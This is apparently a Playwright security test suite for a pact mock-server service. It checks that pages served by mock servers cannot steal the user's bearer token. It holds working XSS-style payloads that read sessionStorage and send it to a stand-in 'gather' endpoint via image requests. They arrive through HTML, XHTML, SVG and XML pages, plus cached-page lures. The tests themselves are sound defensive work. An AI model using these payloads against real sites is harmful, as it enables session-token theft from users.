"""What a pact has a mock server answer may be a page, of one origin with those of the service: it takes nothing there.

Each page here tries, in the tab whose token it wants. What it gets it would write into its title, and send to a mock
server of its own: a policy stops its scripts, so neither happens, and the next page of the service has its token still.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Opener
from tests.pacts import interaction, pact
from tests.process import Running, call
from tests.process import service as running_service

_TOKEN = "the-token"
_AS = {"Authorization": f"Bearer {_TOKEN}"}

_TAKE = """
document.title = "it ran";
const take = got => { document.title = "taken: " + got; new Image().src = "GATHER" + encodeURIComponent(got); };
take("a visit");
try { take(JSON.stringify(sessionStorage)); } catch {}
try { take(JSON.stringify(opener.sessionStorage)); } catch {}
fetch("/openapi.json").then(answer => answer.text()).then(take);
const frame = document.createElement("iframe");
frame.onload = () => take(JSON.stringify(frame.contentWindow.sessionStorage));
frame.src = "/docs";
document.documentElement.append(frame);
navigator.serviceWorker.register("worker.js");
"""

_PAGES = {
    "html": (
        "text/html",
        "<!doctype html><title>no</title><body onload='%s'><script>%s</script><img src=x onerror='%s'>",
    ),
    "xhtml": (
        "application/xhtml+xml",
        "<html xmlns='http://www.w3.org/1999/xhtml'><title>no</title><script>//<![CDATA[\n%s\n//]]></script></html>",
    ),
    "svg": (
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg'><title>no</title><script>//<![CDATA[\n%s\n//]]></script></svg>",
    ),
    "xml": (
        "text/xml",
        "<?xml-stylesheet type='text/xsl' href='a.xsl'?><script xmlns='http://www.w3.org/1999/xhtml'>//<![CDATA[\n%s\n//]]></script>",
    ),
}


_STOPS = ("Content Security Policy", "sandboxed", "Unsafe attempt to load")
"""What the browser calls what it does not let a page do."""


def _page(kind: str, gather: str) -> dict[str, object]:
    """Make what is answered with a page of some kind, with the policy that it would like to have."""
    media_type, frame = _PAGES[kind]
    script = _TAKE.replace("GATHER", gather)
    once = script.replace("\n", " ").replace("'", "&#39;")
    body = frame % ((once, script, once) if frame.count("%s") == 3 else script)
    headers = {
        "Content-Type": f"{media_type}; charset=utf-8",
        "Content-Security-Policy": "sandbox allow-scripts allow-same-origin allow-popups",
        "Service-Worker-Allowed": "/",
    }
    return interaction(f"a page, {kind}", {"path": f"/{kind}"}, headers=headers, body=body)


def _create(service: Running, document: object) -> dict[str, str]:
    status, created = call("POST", service.url, document, _AS)
    assert status == 200, created
    server: dict[str, str] = created["mockServer"]
    return server


def _give_token(page: Page, address: str) -> None:
    page.goto(address)
    page.get_by_label("Token", exact=True).fill(_TOKEN)
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("Mock servers")


@pytest.mark.parametrize("host", ["127.0.0.1", "pacts.test"])  # to the first, a browser says what it wants a page for
def test_a_page_of_a_pact_takes_no_token(tmp_path: Path, open_page: Opener, troubles: list[str], host: str) -> None:
    with running_service(tmp_path, "--token", _TOKEN) as service:
        gather = _create(service, pact(interaction(request={"path": "/gather"})))
        evil = _create(service, pact(*(_page(kind, f"{gather['url']}/gather?") for kind in _PAGES)))
        url = service.url.replace("127.0.0.1", host)
        page = open_page(url)
        _give_token(page, f"{url}/ui/")
        for kind in _PAGES:
            page.goto(f"{url}/m/{evil['id']}/{kind}")
            page.wait_for_load_state("networkidle")
            assert page.title() in {"no", ""}, kind
        _, received = call("GET", f"{service.url}/mockserver/{gather['id']}/requests", headers=_AS)
        assert received["requests"] == []
        _, received = call("GET", f"{service.url}/mockserver/{evil['id']}/requests", headers=_AS)
        assert {entry["request"]["path"] for entry in received["requests"]} >= {f"/{kind}" for kind in _PAGES}
        assert all(any(stop in text for stop in _STOPS) for text in troubles), troubles
        troubles.clear()
        page.goto(f"{url}/docs")
        expect(page.locator("#show_report")).to_be_visible()


def test_a_page_of_a_pact_on_its_own_port_neither_calls_the_service_nor_holds_its_pages(
    service: Running, open_page: Opener, troubles: list[str]
) -> None:
    """There it runs, as it would on any server; the service is another origin."""
    script = f"""
        window.said = [];
        const say = what => () => said.push(what);
        fetch("{service.url}/").then(say("read"), say("not read"));
        fetch("{service.url}/", {{method: "POST", body: "{{}}"}}).then(say("posted"), say("not posted"));
        window.held = open("{service.url}/docs");
    """
    evil = interaction(headers={"Content-Type": "text/html"}, body=f"<title>no</title><script>{script}</script>")
    _, created = call("POST", service.url, pact(evil))
    page = open_page(service.url)
    page.goto(f"{created['mockServer']['url']}/")
    page.wait_for_function("window.said.length === 2")
    assert sorted(page.evaluate("window.said")) == ["not posted", "not read"]
    page.wait_for_function("window.held.closed")  # so it is for who opened it; it stands there all the same
    shown = next(each for each in page.context.pages if each != page)
    expect(shown.locator("#show_report")).to_be_visible()
    assert len(call("GET", service.url)[1]["mockServers"]) == 1
    troubles.clear()


_KEPT = {"Cache-Control": "max-age=3600", "ETag": '"1"', "Access-Control-Allow-Origin": "*"}
_RUNS = 'document.title = "it ran: " + JSON.stringify(sessionStorage)'
_KEPT_PAGES = {
    "html": ("text/html", f"<!doctype html><title>no</title><script>{_RUNS}</script>"),
    "svg": (
        "image/svg+xml",
        f"<svg xmlns='http://www.w3.org/2000/svg'><title>no</title><script>{_RUNS}</script></svg>",
    ),
}
_WAYS_TO_KEEP = {
    "fetched": "fetch('PAGE').then(answer => answer.text()).finally(() => { document.title = 'kept'; })",
    "fetched blindly": "fetch('PAGE', {mode: 'no-cors'}).finally(() => { document.title = 'kept'; })",
    "an image": "const image = new Image(); image.onload = image.onerror = () => { document.title = 'kept'; };"
    " image.src = 'PAGE'",
}


@pytest.mark.parametrize("host", ["127.0.0.1", "pacts.test"])
def test_a_page_that_the_browser_has_kept_from_a_fetch_takes_nothing_either(
    tmp_path: Path, open_page: Opener, troubles: list[str], host: str
) -> None:
    """What a script of any page fetches, a browser keeps if the answer says so, and later shows without asking."""
    with running_service(tmp_path, "--token", _TOKEN) as service:
        url = service.url.replace("127.0.0.1", host)
        page = open_page(url)
        _give_token(page, f"{url}/ui/")
        for kind, (media_type, body) in _KEPT_PAGES.items():
            for way, script in _WAYS_TO_KEEP.items():
                evil = interaction(request={"path": "/evil"}, headers={"Content-Type": media_type, **_KEPT}, body=body)
                evil_page = f"{url}/m/{_create(service, pact(evil))['id']}/evil"
                keeps = script.replace("PAGE", evil_page)
                lure = f"<title>lure</title><script>{keeps}</script><a href='{evil_page}'>go"
                luring = _create(service, pact(interaction(headers={"Content-Type": "text/html"}, body=lure)))
                page.goto(luring["url"].replace("127.0.0.1", host) + "/")
                page.wait_for_function("document.title === 'kept'")
                page.get_by_role("link").click()
                page.wait_for_url("**/evil")
                page.wait_for_load_state("networkidle")
                assert page.title() in {"no", ""}, f"{kind}, {way}"
        assert any("sandboxed" in text for text in troubles)
        troubles.clear()
